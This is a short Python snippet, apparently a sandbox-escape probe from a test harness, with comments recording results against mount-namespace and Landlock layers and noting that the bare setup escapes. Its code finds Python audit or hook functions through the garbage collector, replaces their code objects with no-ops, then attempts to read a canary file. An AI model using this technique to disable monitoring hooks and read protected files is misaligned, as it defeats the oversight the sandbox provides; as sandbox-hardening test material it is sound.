# namespaces: mount_namespace -> completed, ENOENT | landlock: landlock -> completed, EACCES
# A hook that is a Python function does what its code object says, and that can be replaced.
# bare: escapes
import gc
import types

for item in gc.get_objects():
    if isinstance(item, types.FunctionType) and item.__code__.co_argcount == 2:
        if "audit" in item.__name__ or "hook" in item.__name__:
            item.__code__ = (lambda event, arguments: None).__code__
attempt(lambda: open(CANARY_FILE).read())
